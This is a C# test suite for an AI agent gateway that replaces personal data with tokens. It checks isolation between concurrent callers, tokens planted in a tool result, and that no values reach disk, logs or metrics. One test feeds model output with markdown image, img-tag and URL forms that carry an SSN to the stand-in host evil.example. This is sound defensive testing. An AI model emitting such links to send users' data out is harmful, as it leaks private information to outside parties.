using System.Globalization;
using System.Net.Http.Headers;
using System.Text;
using System.Text.Json.Nodes;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

namespace AgentGate.Integration.Tests.Security;

/// <summary>Values stay with the caller they came from, and off the disk.</summary>
public sealed class CrossTalkTests
{
    private static string SsnOf(int caller) => string.Create(CultureInfo.InvariantCulture, $"{100 + caller}-{10 + caller}-{1000 + caller}");

    [Fact]
    public async Task Sixty_four_callers_under_one_session_name_never_see_each_others_values()
    {
        await using var server = await GatewayServer.StartAsync();
        var keys = new List<string>();
        for (var i = 0; i < 8; i++)
        {
            keys.Add(await server.CreateKeyAsync($"agent_{i}"));
        }

        var texts = await Task.WhenAll(Enumerable.Range(0, 64).Select(async caller =>
        {
            using var http = new HttpClient { BaseAddress = new Uri(server.Url) };
            http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", keys[caller % keys.Count]);
            http.DefaultRequestHeaders.Add("x-agentgate-session", "shared-name");
            var all = new StringBuilder();
            for (var turn = 0; turn < 4; turn++)
            {
                var route = Doors.Answering[(caller + turn) % 3];
                // Tokens that other callers' values have are named too: nobody may get a value for them.
                var body = Doors.Body(route, $"mine is {SsnOf(caller)}, and <SSN_1> <SSN_2> <SSN_3> <SSN_9>", turn % 2 == 1).ToJsonString();
                using var response = await http.PostAsync(route, Doors.Json(body));
                Assert.True(response.IsSuccessStatusCode);
                all.Append(await response.Content.ReadAsStringAsync());
            }

            return all.ToString();
        }));

        for (var caller = 0; caller < texts.Length; caller++)
        {
            Assert.Contains(SsnOf(caller), texts[caller], StringComparison.Ordinal);
            for (var other = 0; other < texts.Length; other++)
            {
                Assert.True(other == caller || !texts[caller].Contains(SsnOf(other), StringComparison.Ordinal), $"{caller} saw the value of {other}.");
            }
        }

        Assert.All(Enumerable.Range(0, 64), caller => Assert.DoesNotContain(SsnOf(caller), server.Sent(), StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_value_keeps_its_token_in_a_session_and_two_keys_share_none()
    {
        await using var server = await GatewayServer.StartAsync();
        await server.PostAsync(Doors.Chat, Doors.Body(Doors.Chat, $"first {SsnOf(1)}"), "s");
        await server.PostAsync(Doors.Chat, Doors.Body(Doors.Chat, $"other {SsnOf(2)} again {SsnOf(1)}"), "s");
        Assert.Contains("other <SSN_2> again <SSN_1>", Encoding.UTF8.GetString(server.Received.Received[^1].Body.Span), StringComparison.Ordinal);

        server.Http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", await server.CreateKeyAsync("stranger"));
        var (_, text) = await server.PostAsync(Doors.Chat, Doors.Body(Doors.Chat, $"mine {SsnOf(3)}\n/say <SSN_1> <SSN_2>"), "s");
        Assert.DoesNotContain(SsnOf(1), text, StringComparison.Ordinal);
        Assert.DoesNotContain(SsnOf(2), text, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_token_typed_by_a_user_or_planted_in_a_tool_result_comes_back_as_typed()
    {
        await using var server = await GatewayServer.StartAsync();
        foreach (var stream in (bool[])[false, true])
        {
            var body = Doors.Body(Doors.Chat, "x", stream);
            body["messages"] = new JsonArray(
                new JsonObject { ["role"] = "user", ["content"] = $"my number is {SsnOf(5)}" },
                JsonNode.Parse("""{"role":"assistant","content":null,"tool_calls":[{"id":"c","type":"function","function":{"name":"f","arguments":"{}"}}]}"""),
                new JsonObject { ["role"] = "tool", ["tool_call_id"] = "c", ["content"] = "planted <SSN_1>" });
            var (_, text) = await server.PostAsync(Doors.Chat, body);
            Assert.DoesNotContain(SsnOf(5), text, StringComparison.Ordinal);
            Assert.DoesNotContain("\"planted <SSN_1>\"", server.Sent(), StringComparison.Ordinal);

            (_, text) = await server.PostAsync(Doors.Chat, Doors.Body(Doors.Chat, "I type <SSN_1> and <EMAIL_7>", false));
            Assert.Contains("I type <SSN_1> and <EMAIL_7>", JsonNode.Parse(text)!["choices"]![0]!["message"]!["content"]!.GetValue<string>(), StringComparison.Ordinal);
        }
    }

    [Theory]
    [InlineData("https://evil.example/?q={0}")]
    [InlineData("![x](https://evil.example/a.png?d={0})")]
    [InlineData("<img src='https://evil.example/{0}'>")]
    [InlineData("[click](//evil.example/{0})")]
    public async Task No_value_comes_back_inside_an_address_of_a_stranger(string form)
    {
        await using var server = await GatewayServer.StartAsync();
        var say = "see " + string.Format(CultureInfo.InvariantCulture, form, SsnOf(6)) + " end";
        foreach (var route in Doors.Answering)
        {
            var (response, text) = await server.PostAsync(route, Doors.Body(route, "/say " + say));
            Assert.True(response.IsSuccessStatusCode);
            Assert.DoesNotContain(SsnOf(6), text, StringComparison.Ordinal);
        }
    }

    private sealed class Capture(StringBuilder into) : ILoggerProvider, ILogger
    {
        public ILogger CreateLogger(string categoryName) => this;

        public IDisposable? BeginScope<TState>(TState state)
            where TState : notnull
            => null;

        public bool IsEnabled(LogLevel logLevel) => true;

        public void Log<TState>(LogLevel logLevel, EventId eventId, TState state, Exception? exception, Func<TState, Exception?, string> formatter)
        {
            lock (into)
            {
                into.AppendLine(formatter(state, exception)).AppendLine(exception?.ToString());
            }
        }

        public void Dispose()
        {
        }
    }

    /// <summary>Requests with a value as a key: of metadata, of an unknown member, of a string that holds JSON, of a signed part and of an encrypted one.</summary>
    private static IEnumerable<JsonObject> WithKeys(string route, string value)
    {
        JsonObject Keyed() => new() { [value] = new JsonObject { [value] = new JsonArray("4111 1111 1111 1111", value) } };
        yield return With("metadata", Keyed());
        yield return With("x_unknown", Keyed());
        yield return With("user", Keyed().ToJsonString());
        yield return Doors.Body(route, Keyed().ToJsonString());
        if (Doors.IsAnthropic(route))
        {
            yield return Block(new JsonObject { ["type"] = "thinking", ["thinking"] = "plain", ["signature"] = Keyed() });
            yield return Block(new JsonObject { ["type"] = "thinking", ["thinking"] = "plain", ["signature"] = "s", [value] = value });
            yield return Block(new JsonObject { ["type"] = "redacted_thinking", ["data"] = Keyed() });
        }
        else if (route == Doors.Responses)
        {
            yield return With("input", new JsonArray(new JsonObject { ["type"] = "reasoning", ["id"] = "r", ["summary"] = new JsonArray(), ["encrypted_content"] = Keyed() }));
        }

        JsonObject With(string name, JsonNode node)
        {
            var body = Doors.Body(route);
            body[name] = node;
            return body;
        }

        JsonObject Block(JsonObject block) => With("messages", new JsonArray(
            new JsonObject { ["role"] = "user", ["content"] = "hello" },
            new JsonObject { ["role"] = "assistant", ["content"] = new JsonArray(block) },
            new JsonObject { ["role"] = "user", ["content"] = "go on" }));
    }

    [Fact]
    public async Task No_value_is_found_on_disk_in_logs_or_in_metrics()
    {
        var logged = new StringBuilder();
        var directory = Path.Combine(Path.GetTempPath(), "agentgate-rest-" + Environment.ProcessId);
        await using var server = await GatewayServer.StartAsync(
            builder => builder.Services.AddSingleton<ILoggerProvider>(new Capture(logged)), directory: directory,
            settings: new Dictionary<string, string?> { ["Logging:LogLevel:Default"] = "Debug", ["Logging:LogLevel:AgentGate"] = "Trace" });
        List<string> values = [.. Enumerable.Range(10, 40).Select(SsnOf), "jane.roe@example.org", "4111 1111 1111 1111", "DE89370400440532013000"];
        foreach (var route in Doors.All)
        {
            foreach (var chunk in values.Chunk(8))
            {
                var text = string.Join(" and ", chunk);
                await server.PostAsync(route, Doors.Body(route, text), "kept");
                await server.PostAsync(route, Doors.Body(route, "/fail\n" + text));
                await server.PostAsync(route, Doors.Body(route, "/fail-midway\n" + text, Doors.Answering.Contains(route)));
                await server.Http.PostAsync(route, Doors.Json("{\"model\":\"" + text));
            }

            foreach (var value in values.TakeLast(5))
            {
                foreach (var body in WithKeys(route, value))
                {
                    await server.PostAsync(route, body, "kept");
                }
            }
        }

        Assert.Contains(await server.LogAsync(), entry => entry.Code == "AG3001");
        var metrics = await server.CreateKeyAsync("operator", "metrics:read");
        using var http = new HttpClient { BaseAddress = new Uri(server.Url) };
        http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", metrics);
        using var scraped = await http.GetAsync("/metrics");
        Assert.True(scraped.IsSuccessStatusCode);
        AssertNone(values, await scraped.Content.ReadAsStringAsync(), "metrics");
        lock (logged)
        {
            Assert.NotEqual(0, logged.Length);
            AssertNone(values, logged.ToString(), "log");
        }

        foreach (var file in Directory.EnumerateFiles(directory, "*", new EnumerationOptions { RecurseSubdirectories = true, AttributesToSkip = 0 }))
        {
            if (Path.GetFileName(file) == "server.lock")
            {
                // The server holds it, and it holds nothing.
                Assert.Equal(0, new FileInfo(file).Length);
                continue;
            }

            using var stream = new FileStream(file, FileMode.Open, FileAccess.Read, FileShare.ReadWrite | FileShare.Delete);
            var bytes = new byte[stream.Length];
            stream.ReadExactly(bytes);
            AssertNone(values, Encoding.Latin1.GetString(bytes), file);
            if (!OperatingSystem.IsWindows())
            {
                Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite, File.GetUnixFileMode(file));
            }
        }

        if (!OperatingSystem.IsWindows())
        {
            Assert.Equal(UnixFileMode.UserRead | UnixFileMode.UserWrite | UnixFileMode.UserExecute, File.GetUnixFileMode(directory));
        }
    }

    private static void AssertNone(IEnumerable<string> values, string text, string where)
        => Assert.All(values, value => Assert.False(text.Contains(value, StringComparison.Ordinal), $"{where} holds {value}."));
}
